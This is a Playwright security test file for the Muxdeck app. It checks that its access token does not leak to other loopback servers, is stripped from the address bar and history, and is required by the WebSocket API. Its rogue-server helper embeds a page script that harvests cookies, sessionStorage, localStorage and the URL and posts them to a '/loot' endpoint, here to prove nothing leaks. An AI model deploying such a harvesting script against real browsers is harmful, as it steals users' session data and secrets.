import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { SERVE_SUBPROTOCOL, SERVE_TOKEN_SUBPROTOCOL_PREFIX } from '../../src-preload/api';
import { startServe, type ServeProcess } from '../helpers/serveProcess';
import { makeFakeHome, type FakeHome } from '../helpers/sshd';
import { makeTempDir, removeDir } from '../helpers/tempDir';
import { killServer } from '../helpers/tmux';
import { waitFor } from '../helpers/waitFor';

/**
 * Security review (issue 11) findings 5 and 6, performed in the browser: the serve token must reach no
 * other server on 127.0.0.1 (browsers share cookies between ports), must not stay in the address bar or
 * history, and the API must refuse a WebSocket without it.
 */

const HOST = 'token-box';

let fake: FakeHome;
let muxHome: string;
let serve: ServeProcess;
let token: string;

test.beforeAll(async () => {
  fake = await makeFakeHome();
  await writeFile(fake.configFile, `Host ${HOST}\n  HostName nowhere.invalid\n`);
  muxHome = await makeTempDir('mx-e2e-token-');
  serve = await startServe({ ...fake.env, MUXDECK_HOME: muxHome, MUXDECK_LOG: 'quiet' });
  token = new URLSearchParams(new URL(serve.url).hash.slice(1)).get('token') ?? '';
  expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/);
});

test.afterAll(async () => {
  await serve?.stop();
  await killServer(`${muxHome}/tmux.sock`).catch(() => undefined);
  await fake?.cleanup();
  await removeDir(muxHome);
});

/** The tree lists the ssh config's host only once the page talks to Muxdeck's API with the token. */
async function expectAppWorking(page: Page): Promise<void> {
  await expect(page.getByRole('tree', { name: 'Hosts' }).getByRole('treeitem', { name: HOST })).toBeVisible();
}

interface SeenRequest {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * Another program on this machine, on another loopback port: it logs everything the browser sends it and
 * its page reports whatever the browser lets it read (cookies, both storages) back to it, same-site.
 */
async function startRogueServer(): Promise<{ server: Server; origin: string; seen: SeenRequest[] }> {
  const seen: SeenRequest[] = [];
  const page = `<!doctype html><title>rogue</title><script>
    fetch('/loot', { method: 'POST', credentials: 'include', body: JSON.stringify({
      cookie: document.cookie,
      session: Object.entries(sessionStorage),
      local: Object.entries(localStorage),
      href: location.href,
    }) });
  </script>`;
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(req.url === '/loot' ? '' : page);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

test('a server on another loopback port gets no token after the browser used Muxdeck', async ({
  page,
  context,
}) => {
  const rogue = await startRogueServer();
  try {
    await page.goto(serve.url);
    await expectAppWorking(page);

    // As a cross-site page's redirect would, the tab goes to the other server on 127.0.0.1.
    await page.goto(`${rogue.origin}/`);
    const loot = await waitFor(() => rogue.seen.find((r) => r.url === '/loot'), {
      describe: "the rogue page's report of what it could read",
      timeoutMs: 15_000,
    });
    expect(JSON.parse(loot.body)).toMatchObject({ cookie: '', session: [], local: [] });
    for (const request of rogue.seen) {
      expect(JSON.stringify(request), `${request.method} ${request.url}`).not.toContain(token);
    }
    // The browser holds no cookie for 127.0.0.1 at all: there is nothing to hand to another port.
    expect(await context.cookies()).toEqual([]);
  } finally {
    // The browser keeps its connections alive; close() alone would wait for them forever.
    rogue.server.closeAllConnections();
    await new Promise<void>((resolve) => rogue.server.close(() => resolve()));
  }
});

test('the token leaves the address bar and history, and the WebSocket refuses a missing or wrong token', async ({
  page,
}) => {
  await page.goto(serve.url);
  await expectAppWorking(page);
  const origin = new URL(serve.url).origin;
  expect(page.url()).toBe(`${origin}/`);
  expect(await page.evaluate<string>('document.URL')).not.toContain(token);

  // The history entry was rewritten, not kept: going back lands on the address without the token, and the
  // tab's sessionStorage still lets the page in.
  await page.goto('about:blank');
  await page.goBack();
  expect(page.url()).toBe(`${origin}/`);
  await expectAppWorking(page);
  await page.reload();
  await expectAppWorking(page);

  // From Muxdeck's own origin (so the Origin check passes): only the right token opens the API.
  const outcomes = await page.evaluate(
    async ({ protocol, prefix, token, host }) => {
      const attempt = (protocols: string[]) =>
        new Promise<string>((resolve) => {
          const socket = new WebSocket(`ws://${host}/ws`, protocols);
          socket.onopen = () => {
            resolve('open');
            socket.close();
          };
          socket.onclose = () => resolve('refused');
        });
      return {
        none: await attempt([]),
        nameOnly: await attempt([protocol]),
        wrong: await attempt([protocol, `${prefix}${token.slice(0, -2)}xx`]),
        queryString: await new Promise<string>((resolve) => {
          const socket = new WebSocket(`ws://${host}/ws?token=${token}`);
          socket.onopen = () => resolve('open');
          socket.onclose = () => resolve('refused');
        }),
        right: await attempt([protocol, `${prefix}${token}`]),
      };
    },
    {
      protocol: SERVE_SUBPROTOCOL,
      prefix: SERVE_TOKEN_SUBPROTOCOL_PREFIX,
      token,
      host: new URL(serve.url).host,
    },
  );
  expect(outcomes).toEqual({
    none: 'refused',
    nameOnly: 'refused',
    wrong: 'refused',
    queryString: 'refused',
    right: 'open',
  });
});

test('a page opened without the token says how to get in and reaches nothing', async ({ page }) => {
  await page.goto(new URL('/', serve.url).href);
  const banner = page
    .getByRole('alert')
    .filter({ has: page.getByText('Disconnected from Muxdeck', { exact: true }) });
  await expect(banner).toContainText('open the URL it prints');
  await expect(page.getByRole('tree', { name: 'Hosts' }).getByRole('treeitem', { name: HOST })).toHaveCount(
    0,
  );
});
